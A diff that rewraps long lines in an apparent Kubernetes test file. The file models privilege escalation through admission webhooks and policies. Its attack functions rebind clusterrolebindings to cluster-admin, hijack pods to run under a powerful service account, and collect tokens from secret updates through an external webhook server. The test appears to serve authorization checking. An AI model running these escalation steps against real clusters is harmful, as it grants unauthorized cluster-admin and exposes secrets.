@@ -30,7 +30,8 @@ var admissionEscalations = []escalation{
 	{edge: "webhook-write", how: "create", grants: func(string, string) []grant {
 		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingwebhookconfigurations"}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, bindings, a.rewriter(bindingPatch(a.name))), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, bindings,
+			a.rewriter(bindingPatch(a.name))), metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -57,7 +58,8 @@ var admissionEscalations = []escalation{
 	{edge: "webhook-write", how: "pod", grants: func(string, string) []grant {
 		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingwebhookconfigurations"}}
 	}, prepare: makeClerk, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, pods, a.rewriter(podPatch)), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, pods,
+			a.rewriter(podPatch)), metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -68,7 +70,8 @@ var admissionEscalations = []escalation{
 		return []grant{{verb: "create", group: admissionGroup, resource: "validatingwebhookconfigurations"}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
 		tokens := make(chan string, 100)
-		_, err := a.client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, validating(a.name, a.reader(tokens)), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, validating(a.name, a.reader(tokens)),
+			metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -93,11 +96,13 @@ var admissionEscalations = []escalation{
 		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicies"},
 			{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicybindings"}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, bindings, rewriting(bindingPatch(a.name))), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, bindings,
+			rewriting(bindingPatch(a.name))), metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
-		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name), metav1.CreateOptions{}); err != nil {
+		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name),
+			metav1.CreateOptions{}); err != nil {
 			return nil, err
 		}
 		return a.config, a.victim()
@@ -106,11 +111,13 @@ var admissionEscalations = []escalation{
 		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicies"},
 			{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicybindings"}}
 	}, prepare: makeClerk, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, pods, rewriting(podPatch)), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, pods, rewriting(podPatch)),
+			metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
-		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name), metav1.CreateOptions{}); err != nil {
+		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name),
+			metav1.CreateOptions{}); err != nil {
 			return nil, err
 		}
 		return a.victimPod()
@@ -119,15 +126,18 @@ var admissionEscalations = []escalation{
 		return []grant{{verb: "patch", group: admissionGroup, resource: "mutatingadmissionpolicies", name: name}}
 	}, prepare: func(t *testing.T, s *scene, _, name string) {
 		harmless := `[JSONPatch{op: "add", path: "/metadata/labels/seen", value: "yes"}]`
-		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(t.Context(), policyOf(name, bindings, harmless), metav1.CreateOptions{}); err != nil {
+		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(t.Context(), policyOf(name, bindings, harmless),
+			metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
-		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(t.Context(), bindingOf(name), metav1.CreateOptions{}); err != nil {
+		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(t.Context(), bindingOf(name),
+			metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
 		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Patch(ctx, a.name, types.JSONPatchType,
-			mustJSON(a.t, []operation{replace("/spec/mutations/0/jsonPatch/expression", rewriting(bindingPatch(a.name)))}), metav1.PatchOptions{})
+			mustJSON(a.t, []operation{replace("/spec/mutations/0/jsonPatch/expression", rewriting(bindingPatch(a.name)))}),
+			metav1.PatchOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -146,7 +156,8 @@ func replace(path string, value any) operation { return operation{"replace", pat
 
 // bindingPatch makes any binding one of an attacker to cluster-admin.
 func bindingPatch(name string) []operation {
-	return []operation{replace("/roleRef/name", clusterAdmin.Name), replace("/subjects/0/kind", rbacv1.UserKind), replace("/subjects/0/name", name)}
+	return []operation{replace("/roleRef/name", clusterAdmin.Name), replace("/subjects/0/kind", rbacv1.UserKind),
+		replace("/subjects/0/name", name)}
 }
 
 // podPatch makes any pod one of an attacker, as the powerful service account.
@@ -177,7 +188,8 @@ func (a *attacker) victim() error {
 
 // makeClerk makes the service account of a harmless pod.
 func makeClerk(t *testing.T, s *scene, namespace, name string) {
-	if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name + "-clerk"}}, metav1.CreateOptions{}); err != nil {
+	if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(),
+		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name + "-clerk"}}, metav1.CreateOptions{}); err != nil {
 		t.Fatal(err)
 	}
 }
@@ -224,7 +236,8 @@ func (a *attacker) reader(tokens chan<- string) admissionregistrationv1.WebhookC
 }
 
 // webhook serves admission reviews from the attacker's own machine, outside the cluster.
-func (a *attacker) webhook(answer func(*admissionv1.AdmissionRequest) *admissionv1.AdmissionResponse) admissionregistrationv1.WebhookClientConfig {
+func (a *attacker) webhook(
+	answer func(*admissionv1.AdmissionRequest) *admissionv1.AdmissionResponse) admissionregistrationv1.WebhookClientConfig {
 	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		var review admissionv1.AdmissionReview
 		body, err := io.ReadAll(r.Body)
@@ -245,27 +258,34 @@ func (a *attacker) webhook(answer func(*admissionv1.AdmissionRequest) *admission
 		CABundle: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}
 }
 
-func mutating(name string, what admissionregistrationv1.Rule, at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.MutatingWebhookConfiguration {
+func mutating(name string, what admissionregistrationv1.Rule,
+	at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.MutatingWebhookConfiguration {
 	none, ignore := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Ignore
 	return &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name},
-		Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none, FailurePolicy: &ignore,
+		Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none,
+			FailurePolicy:           &ignore,
 			AdmissionReviewVersions: []string{"v1"}, ObjectSelector: marked(name),
-			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: what}}}}}
+			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{
+				admissionregistrationv1.Create}, Rule: what}}}}}
 }
 
 func validating(name string, at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.ValidatingWebhookConfiguration {
 	none, ignore := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Ignore
 	return &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name},
-		Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none, FailurePolicy: &ignore,
+		Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none,
+			FailurePolicy:           &ignore,
 			AdmissionReviewVersions: []string{"v1"}, ObjectSelector: marked(name),
-			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Update},
-				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}}}}}}}
+			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{
+				admissionregistrationv1.Update},
+				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"},
+					Resources: []string{"secrets"}}}}}}}
 }
 
 // What webhooks and policies are about.
 var (
-	bindings = admissionregistrationv1.Rule{APIGroups: []string{rbacGroup}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}}
-	pods     = admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}
+	bindings = admissionregistrationv1.Rule{APIGroups: []string{rbacGroup}, APIVersions: []string{"v1"},
+		Resources: []string{"clusterrolebindings"}}
+	pods = admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}
 )
 
 // rewriting is a change as an expression.
@@ -280,10 +300,12 @@ func rewriting(change []operation) string {
 func policyOf(name string, what admissionregistrationv1.Rule, expression string) *admissionregistrationv1.MutatingAdmissionPolicy {
 	ignore := admissionregistrationv1.Ignore
 	return &admissionregistrationv1.MutatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: name},
-		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{FailurePolicy: &ignore, ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
+		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{FailurePolicy: &ignore,
+			ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
 			MatchConstraints: &admissionregistrationv1.MatchResources{ObjectSelector: marked(name),
-				ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{RuleWithOperations: admissionregistrationv1.RuleWithOperations{
-					Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: what}}}},
+				ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{
+					{RuleWithOperations: admissionregistrationv1.RuleWithOperations{
+						Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: what}}}},
 			Mutations: []admissionregistrationv1.Mutation{{PatchType: admissionregistrationv1.PatchTypeJSONPatch,
 				JSONPatch: &admissionregistrationv1.JSONPatch{Expression: expression}}}}}
 }
